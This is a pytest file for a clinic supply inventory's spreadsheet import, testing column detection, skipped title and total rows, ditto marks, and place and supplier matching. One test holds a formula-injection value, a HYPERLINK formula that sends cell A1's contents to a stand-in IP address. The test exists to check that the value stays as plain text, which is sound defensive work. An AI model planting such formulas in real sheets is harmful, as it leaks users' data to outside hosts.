"""Where the table of a sheet stands, which column is what, and which rows are no lines of it."""

from datetime import datetime

import pytest

from inventory.imports.headings import guess_columns, layout_key
from inventory.imports.meaning.places import Places, Suppliers
from inventory.imports.planned import Field, Outcome
from inventory.imports.stock.fields import STOCK_FIELDS
from inventory.imports.stock.rows import stock_layouts
from inventory.sheets.cells import SheetRow
from tests.imports.catalogues import starter_catalogue
from tests.imports.sheets import Line, plan, said, sheet


@pytest.mark.parametrize(
    ("headings", "fields"),
    [
        (
            "Item|Qty on hand|Unit|Lot #|Exp|Where|Vendor|Cost/box|Notes",
            "item quantity unit lot expires_on location supplier unit_cost note",
        ),
        (
            "Item |Qty\non hand|Unit|Lot #|Exp.|Where|Vendor|Cost/box|Notes",
            "item quantity unit lot expires_on location supplier unit_cost note",
        ),
        (
            "Bin|NDC / Ref|Product Description|Strength|Vial size|Pkg|QOH|Batch|Use By|Distributor",
            "location code item strength size unit quantity lot expires_on supplier",
        ),
        (
            "MEDICATION|COUNT|UOM|LOT NUMBER|EXPIRATION DATE|SHELF|MFR|UNIT PRICE|COMMENTS",
            "item quantity unit lot expires_on location supplier unit_cost note",
        ),
        ("Supply|On Hand|Lot/Batch|Expires|Location|Remarks",
         "item quantity lot expires_on location note"),
        ("Item No.|Description|Quantity|Lot No.|Exp Date", "code item quantity lot expires_on"),
        ("Item|Description|Qty", "item details quantity"),
        ("SKU|Name|Amount", "code item quantity"),
        ("Drug name|Conc.|Vol|Boxes|Loose|Expiry", "item strength size quantity loose expires_on"),
        ("Material|QOH|Date opened", "item quantity opened_on"),
        ("Product|GTIN|How many?", "item code quantity"),
        ("Item|Current count|Par count|Last count|Total cost", "item quantity"),
        ("Item|Par|Qty", "item par quantity"),
    ],
)  # fmt: skip
def test_headings_name_the_columns(headings: str, fields: str) -> None:
    columns = guess_columns(headings.split("|"), STOCK_FIELDS)

    named = {name: column for column, name in enumerate(fields.split()) if name != "par"}
    assert columns == named


def test_another_kind_of_import_brings_its_own_fields() -> None:
    fields = (Field("performed_at", "When", ("date", "performed")), Field("type", "Procedure"))

    assert guess_columns(["Date", "Procedure", "Who"], fields) == {"performed_at": 0, "type": 1}


def test_a_layout_is_remembered_whatever_its_case_and_signs() -> None:
    assert layout_key(["Item ", "Qty\non hand", "Lot #"]) == layout_key(
        ["ITEM", "qty on hand", "Lot", ""]
    )
    assert layout_key(["Item", "Qty"]) != layout_key(["Qty", "Item"])


def layout_of(*lines: Line) -> tuple[int, dict[str, int]]:
    rows = sheet(*lines, headings=None)
    (layout,) = stock_layouts(lambda: rows).values()
    return layout.heading_row, dict(layout.columns)


def test_titles_and_remarks_may_stand_above_the_headings() -> None:
    row, columns = layout_of(
        ("Cedar Bluff – SUPPLY COUNT",),
        ("Count by item and lot, see notes",),
        (),
        ("Item", "Qty", "Lot"),
        ("bandages", 60),
    )

    assert (row, columns) == (4, {"item": 0, "quantity": 1, "lot": 2})


def test_without_headings_columns_are_known_by_what_they_hold() -> None:
    row, columns = layout_of(
        (12, "lido 1% 20ml MDV", "6118204", "12/27"),
        (6, "Lidocaine 2% 20mL", "LP2207", "03/2028"),
        (25, "Marcaine .25% 30cc", "NH4471", "Dec-27"),
    )

    assert row == 0
    assert columns == {"quantity": 0, "item": 1, "lot": 2, "expires_on": 3}


def test_a_needed_column_may_have_a_heading_that_nobody_knows() -> None:
    row, columns = layout_of(
        ("Zeug", "Lot", "Exp", "Par level", "Stueck"),
        ("lido 1% 20ml MDV", "A1234", "12/27", 20, 12),
        ("Lidocaine 2% 20mL", "A1235", "12/27", 10, 6),
    )

    assert (row, columns) == (1, {"lot": 1, "expires_on": 2, "item": 0, "quantity": 4})


def test_each_sheet_has_a_layout_of_its_own() -> None:
    rows = [
        *sheet(("bandages", 60), headings=("Item", "Qty"), title="one"),
        *sheet((60, "bandages"), headings=("Qty", "Item"), title="two"),
    ]

    layouts = stock_layouts(lambda: rows)

    assert [layout.columns["item"] for layout in layouts.values()] == [0, 1]


def test_a_sheet_without_a_table_is_passed_over() -> None:
    (row,) = plan(sheet(("Call Northgate on Monday",), headings=None, title="To do"))

    assert row.outcome == Outcome.IGNORE


def test_a_table_without_a_column_of_counts_is_not_taken_for_one() -> None:
    (row,) = plan(sheet(("bandages", "A12", "12/27"), headings=("Item", "Lot", "Exp")))

    assert row.outcome == Outcome.REJECT
    assert "a column with the quantity" in said(row)


@pytest.mark.parametrize(
    "line",
    [
        ("LOCAL ANESTHETICS",),
        ("Needles",),
        ("GLOVES:",),
        (None, "TOP DRAWER"),
        ("STEROIDS",) * 7,
        ("Subtotal – anesthetics", 129),
        ("TOTAL", 266),
        (None, "Total", 266),
        ("Grand total:", "129"),
        ("Item", "Qty", "Unit", "Lot", "Exp", "Where", "Notes"),
        ("ITEM", "QTY", "UNIT", "LOT #", "EXP", "WHERE", "NOTES"),
        ("Key: bx = box, pk = pack, ea = each. Shelf A/B meds.",),
        ("* ask Priya before ordering",),
        ("Counted by: Mara", None, None, None, "11/20/2026"),
        (None, None),
        ("", "  "),
    ],
)
def test_what_is_no_line_of_stock_is_passed_over(line: Line) -> None:
    rows = plan(sheet(("bandages", 60), line))

    assert [row.outcome for row in rows] == [Outcome.ACCEPT, Outcome.IGNORE]
    assert said(rows[1])


@pytest.mark.parametrize("line", [("Hylenex",), ("Kenalog 40 1mL",)])
def test_a_product_alone_in_its_row_lacks_its_count(line: Line) -> None:
    (row,) = plan(sheet(line))

    assert row.outcome == Outcome.REJECT
    assert "Expected how many there are" in said(row)


def test_a_row_that_cannot_be_read_stops_no_other() -> None:
    rows = plan(sheet(("☃", "☃", "☃", "☃", "☃"), ("bandages", 60)))

    assert [row.outcome for row in rows] == [Outcome.REJECT, Outcome.ACCEPT]


def test_headings_may_go_on_in_a_second_row() -> None:
    rows = plan(sheet((None, "on hand", None, "number", "date"), ("bandages", 60)))

    assert [row.outcome for row in rows] == [Outcome.IGNORE, Outcome.ACCEPT]


def test_a_ditto_mark_stands_for_what_is_above_it() -> None:
    _, row = plan(
        sheet(
            ("lido 1% 20ml MDV", 3, "vials", "A1", "12/27"),
            ('"', 4, "ditto", "A2", '"'),
        )
    )

    assert (row.outcome, row.values["item"]) == (Outcome.ACCEPT, "lido-1-20")
    assert row.values["expires_on"] == datetime.fromisoformat("2027-12-31").date()


def test_a_row_without_a_name_may_go_by_the_row_above() -> None:
    _, row = plan(
        sheet(
            ("lido 1% 20ml MDV", 3, "vials", "A1", "12/27"),
            (None, 4, "vials", "A2", "11/27"),
        )
    )

    assert row.outcome == Outcome.DECIDE
    assert [choice.value for choice in row.questions[0].choices] == ["lido-1-20"]


def test_text_that_looks_like_a_formula_stays_text() -> None:
    note = '=HYPERLINK("http://192.0.2.7/?x="&A1,"see order")'
    (row,) = plan(sheet(("bandages", 60, None, None, None, None, note)))

    assert (row.outcome, row.values["note"]) == (Outcome.ACCEPT, note)


def test_a_column_beyond_the_row_is_empty() -> None:
    rows = [*sheet(("bandages", 60)), SheetRow("Main storeroom", 3, ())]

    assert [row.outcome for row in plan(rows)] == [Outcome.ACCEPT, Outcome.IGNORE]


@pytest.mark.parametrize(
    ("text", "codes"),
    [
        ("Fridge", ["fridge"]),
        ("med refrigerator", ["fridge"]),
        ("Rm 1", ["room-1"]),
        ("room1", ["room-1"]),
        ("Rm 1 top drawer", ["room-1"]),
        ("Procedure Room 2", ["room-2"]),
        ("store room", ["storeroom"]),
        ("Supply closet", ["storeroom"]),
        ("room-3", ["room-3"]),
        ("cart", ["room-1", "room-2"]),
        ("A1", []),
        ("Room 4", []),
        ("Sheet1", []),
        ("Stock count 2026", []),
        ("room temp", []),
        ("", []),
    ],
)
def test_places_are_known_by_what_people_call_them(text: str, codes: list[str]) -> None:
    assert list(Places(starter_catalogue().places).find(text)) == codes


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Northgate", "northgate"),
        ("NORTHGATE MED", "northgate"),
        ("pinecrest", "pinecrest"),
        ("McKesson", None),
        ("N", None),
        ("", None),
    ],
)
def test_suppliers_are_known_by_how_their_names_begin(text: str, code: str | None) -> None:
    assert Suppliers(starter_catalogue().suppliers).find(text) == code
